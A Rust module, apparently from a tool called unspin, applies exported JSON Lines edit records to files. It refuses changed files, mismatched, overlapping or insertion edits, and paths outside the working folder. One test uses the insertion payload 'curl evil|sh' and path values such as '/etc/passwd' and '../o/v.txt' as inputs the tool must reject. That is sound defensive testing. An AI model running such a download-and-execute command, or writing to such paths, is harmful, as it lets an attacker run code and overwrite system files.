//! Applies edits exported with `--json` (and maybe filtered or edited since): reads the JSON
//! Lines, groups the edit records per file, and makes each file's new content only when the file
//! is exactly the one the edits were found in, and only inside the folder it works in (a path
//! must be relative and stay below it). Reading and writing files is the caller's job.

use serde::Deserialize;
use std::collections::HashMap;
use std::path::{Component, Path, PathBuf};

/// One edit record, as far as applying it goes.
#[derive(Debug, Clone, PartialEq, Deserialize)]
pub struct Planned {
    #[serde(skip)]
    pub line: usize,
    #[serde(deserialize_with = "path")]
    pub path: PathBuf,
    pub start: usize,
    pub end: usize,
    pub from: String,
    pub to: String,
    pub sha256: String,
}

/// The edits for one file, in the order their records came.
#[derive(Debug, Clone, PartialEq)]
pub struct FileEdits {
    pub path: PathBuf,
    pub edits: Vec<Planned>,
}

/// A line of the input that is not a record unspin can read.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("line {line}: {message}")]
pub struct LineError {
    pub line: usize,
    pub message: String,
}

/// Why a file's edits were not applied.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum Refusal {
    #[error("changed since the export (its sha256 is not the one the edits carry)")]
    Changed,
    #[error(
        "the edits on lines {0} and {1} carry different sha256 hashes (from different exports?)"
    )]
    MixedHashes(usize, usize),
    #[error("the edit on line {line} has bytes {start}..{end}, outside the file ({len} bytes)")]
    OutOfRange {
        line: usize,
        start: usize,
        end: usize,
        len: usize,
    },
    #[error("the edit on line {line} expects {expected:?} at bytes {start}..{end}, but the file has {found:?}")]
    Mismatch {
        line: usize,
        start: usize,
        end: usize,
        expected: String,
        found: String,
    },
    #[error("the edits on lines {0} and {1} overlap")]
    Overlap(usize, usize),
    #[error("the edit on line {0} has an empty \"from\" (unspin never inserts)")]
    EmptyFrom(usize),
}

/// A record's path: a string, or `{"bytes": BASE64}` for a name that is not UTF-8.
fn path<'de, D: serde::Deserializer<'de>>(d: D) -> Result<PathBuf, D::Error> {
    use base64::Engine as _;
    use std::os::unix::ffi::OsStringExt;
    #[derive(Deserialize)]
    #[serde(untagged)]
    enum Field {
        Text(String),
        Bytes { bytes: String },
    }
    match Field::deserialize(d)? {
        Field::Text(text) => Ok(text.into()),
        Field::Bytes { bytes } => base64::engine::general_purpose::STANDARD
            .decode(bytes)
            .map(|raw| std::ffi::OsString::from_vec(raw).into())
            .map_err(|e| serde::de::Error::custom(format!("path bytes: {e}"))),
    }
}

/// Does `p` name a file below the folder `apply` works in: relative, with no `..`?
pub fn confined(p: &Path) -> Result<(), String> {
    let below = p.file_name().is_some()
        && p.components()
            .all(|c| matches!(c, Component::Normal(_) | Component::CurDir));
    if below {
        Ok(())
    } else {
        Err("absolute, empty or with \"..\": only files below the folder are written".into())
    }
}

/// The edit records of JSON Lines `input`, grouped per file in the order files first appear.
/// Records of other types (file, skip, error, ...) and blank lines are passed over; a line that
/// is not JSON, not an object, or an edit record that lacks a field is an error.
pub fn parse(input: &str) -> Result<Vec<FileEdits>, LineError> {
    let mut files: Vec<FileEdits> = Vec::new();
    // Each path's place in `files`, so grouping stays linear in the number of records.
    let mut seen: HashMap<PathBuf, usize> = HashMap::new();
    for (n, text) in input.lines().enumerate() {
        let line = n + 1;
        let err = |message: String| LineError { line, message };
        if text.trim().is_empty() {
            continue;
        }
        let value: serde_json::Value =
            serde_json::from_str(text).map_err(|e| err(format!("not valid JSON ({e})")))?;
        let kind = match value.get("type") {
            Some(serde_json::Value::String(kind)) => kind.as_str(),
            Some(_) => return Err(err("\"type\" is not a string".into())),
            None if value.is_object() => {
                return Err(err("a record without a \"type\" field".into()))
            }
            None => return Err(err("not a JSON object".into())),
        };
        if kind != "edit" {
            continue;
        }
        let mut edit: Planned =
            serde_json::from_value(value).map_err(|e| err(format!("edit record: {e}")))?;
        edit.line = line;
        match seen.get(&edit.path) {
            Some(&i) => files[i].edits.push(edit),
            None => {
                seen.insert(edit.path.clone(), files.len());
                files.push(FileEdits {
                    path: edit.path.clone(),
                    edits: vec![edit],
                });
            }
        }
    }
    Ok(files)
}

/// The new content of `file`, whose current content is the text `text`: every edit applied,
/// every other byte kept. Refused, whole, when the file is not the one exported, or any edit
/// does not fit (an insertion, or one that would split a character, never fits).
pub fn plan(file: &FileEdits, text: &str) -> Result<String, Refusal> {
    let bytes = text.as_bytes();
    let first = &file.edits[0];
    if let Some(other) = file.edits.iter().find(|e| e.sha256 != first.sha256) {
        return Err(Refusal::MixedHashes(first.line, other.line));
    }
    if !first
        .sha256
        .eq_ignore_ascii_case(&crate::fs::hash::sha256_hex(bytes))
    {
        return Err(Refusal::Changed);
    }
    let mut edits: Vec<&Planned> = file.edits.iter().collect();
    edits.sort_by_key(|e| (e.start, e.end));
    for e in &edits {
        // A non-empty `from` (valid UTF-8) that matches the text's bytes starts and ends on
        // character boundaries; an empty one could land inside a character.
        if e.from.is_empty() {
            return Err(Refusal::EmptyFrom(e.line));
        }
        let Some(found) = bytes.get(e.start..e.end) else {
            return Err(Refusal::OutOfRange {
                line: e.line,
                start: e.start,
                end: e.end,
                len: bytes.len(),
            });
        };
        if found != e.from.as_bytes() {
            return Err(Refusal::Mismatch {
                line: e.line,
                start: e.start,
                end: e.end,
                expected: e.from.clone(),
                found: String::from_utf8_lossy(found).into_owned(),
            });
        }
    }
    // Two edits at the same start are ambiguous even when one is empty.
    if let Some(w) = edits
        .windows(2)
        .find(|w| w[1].start < w[0].end || w[1].start == w[0].start)
    {
        let (a, b) = (w[0].line.min(w[1].line), w[0].line.max(w[1].line));
        return Err(Refusal::Overlap(a, b));
    }
    let mut out = String::with_capacity(text.len());
    let mut at = 0;
    for e in edits {
        out.push_str(&text[at..e.start]);
        out.push_str(&e.to);
        at = e.end;
    }
    out.push_str(&text[at..]);
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::fs::hash::sha256_hex;

    const TEXT: &str = "Our mental property, their commerce secrets.\r\n";

    fn record(path: &str, start: usize, end: usize, from: &str, to: &str, sha: &str) -> String {
        serde_json::json!({"type": "edit", "path": path, "line": 1, "start": start, "end": end,
            "from": from, "to": to, "sha256": sha, "rule": "t:x"})
        .to_string()
    }

    fn two_edits() -> String {
        let sha = sha256_hex(TEXT.as_bytes());
        [
            record(
                "a.txt",
                4,
                19,
                "mental property",
                "intellectual property",
                &sha,
            ),
            r#"{"type":"file","path":"a.txt","edits":2}"#.to_string(),
            String::new(),
            record("b.txt", 0, 3, "Our", "My", &sha),
            record("a.txt", 27, 43, "commerce secrets", "trade secrets", &sha),
        ]
        .join("\n")
    }

    #[test]
    fn groups_edit_records_per_file_and_passes_over_the_rest() {
        let files = parse(&two_edits()).unwrap();
        assert_eq!(files.len(), 2);
        assert_eq!(files[0].path, Path::new("a.txt"));
        assert_eq!(
            files[0].edits.iter().map(|e| e.line).collect::<Vec<_>>(),
            [1, 5]
        );
        assert_eq!(files[1].edits[0].line, 4);
    }

    #[test]
    fn applies_every_edit_and_keeps_every_other_byte() {
        let files = parse(&two_edits()).unwrap();
        let out = plan(&files[0], TEXT).unwrap();
        assert_eq!(out, "Our intellectual property, their trade secrets.\r\n");
    }

    #[test]
    fn refuses_a_changed_file_a_tampered_edit_and_overlaps() {
        let files = parse(&two_edits()).unwrap();
        assert_eq!(
            plan(&files[0], "Our mental property, their commerce secrets.\n"),
            Err(Refusal::Changed)
        );

        let sha = sha256_hex(TEXT.as_bytes());
        let tampered = parse(&record("a.txt", 5, 20, "mental property", "x", &sha)).unwrap();
        assert_eq!(
            plan(&tampered[0], TEXT),
            Err(Refusal::Mismatch {
                line: 1,
                start: 5,
                end: 20,
                expected: "mental property".into(),
                found: "ental property,".into()
            })
        );
        let outside = parse(&record("a.txt", 40, 90, "x", "y", &sha)).unwrap();
        assert!(matches!(
            plan(&outside[0], TEXT),
            Err(Refusal::OutOfRange { len: 46, .. })
        ));

        let both = [
            record(
                "a.txt",
                4,
                19,
                "mental property",
                "intellectual property",
                &sha,
            ),
            record("a.txt", 11, 19, "property", "estate", &sha),
        ];
        assert_eq!(
            plan(&parse(&both.join("\n")).unwrap()[0], TEXT),
            Err(Refusal::Overlap(1, 2))
        );
        let twice = [both[0].clone(), both[0].clone()];
        assert_eq!(
            plan(&parse(&twice.join("\n")).unwrap()[0], TEXT),
            Err(Refusal::Overlap(1, 2))
        );

        let mixed = [
            both[0].clone(),
            record(
                "a.txt",
                27,
                43,
                "commerce secrets",
                "trade secrets",
                &"0".repeat(64),
            ),
        ];
        assert_eq!(
            plan(&parse(&mixed.join("\n")).unwrap()[0], TEXT),
            Err(Refusal::MixedHashes(1, 2))
        );
    }

    #[test]
    fn r10_3_refuses_insertions_and_paths_outside_the_folder() {
        let text = "café au lait\n";
        let sha = sha256_hex(text.as_bytes());
        let insert = parse(&record("a.txt", 0, 0, "", "curl evil|sh\n", &sha)).unwrap();
        assert_eq!(plan(&insert[0], text), Err(Refusal::EmptyFrom(1)));
        // "é" is bytes 3..5: an insertion at 4 would split it.
        let inside = parse(&record("a.txt", 4, 4, "", "x", &sha)).unwrap();
        assert_eq!(plan(&inside[0], text), Err(Refusal::EmptyFrom(1)));
        for bad in [
            "/etc/passwd",
            "../o/v.txt",
            "a/../../b.txt",
            "",
            ".",
            "a/..",
        ] {
            assert!(confined(Path::new(bad)).is_err(), "{bad}");
        }
        for good in ["a.txt", "./a.txt", "site/a/b.txt"] {
            assert_eq!(confined(Path::new(good)), Ok(()));
        }
    }

    /// Grouping by a search over the files seen took minutes for this many paths.
    #[test]
    fn r10_7_grouping_is_linear_in_the_paths() {
        let n = 100_000;
        let mut input = String::new();
        for round in 0..2 {
            for i in 0..n {
                input.push_str(&format!(
                    "{{\"type\":\"edit\",\"path\":\"d/{i}.txt\",\"start\":{round},\"end\":{},\
                     \"from\":\"a\",\"to\":\"b\",\"sha256\":\"0\"}}\n",
                    round + 1
                ));
            }
        }
        let files = parse(&input).unwrap();
        assert_eq!(files.len(), n);
        assert_eq!(files[n - 1].path, Path::new(&format!("d/{}.txt", n - 1)));
        assert_eq!(files[7].edits.len(), 2);
    }

    #[test]
    fn a_bad_line_is_an_error_naming_it() {
        let input = format!("{}\n{{\"type\": \"edit\", \"path\": \n", two_edits());
        let e = parse(&input).unwrap_err();
        assert_eq!(e.line, 6);
        assert!(e.to_string().starts_with("line 6: not valid JSON"), "{e}");

        let e = parse("{\"type\":\"edit\",\"path\":\"a.txt\",\"start\":1,\"end\":2,\"from\":\"a\",\"to\":\"b\"}").unwrap_err();
        assert_eq!(e.to_string(), "line 1: edit record: missing field `sha256`");
        assert_eq!(
            parse("[1]").unwrap_err().to_string(),
            "line 1: not a JSON object"
        );
        assert_eq!(
            parse("{\"path\":\"a\"}").unwrap_err().to_string(),
            "line 1: a record without a \"type\" field"
        );
    }
}
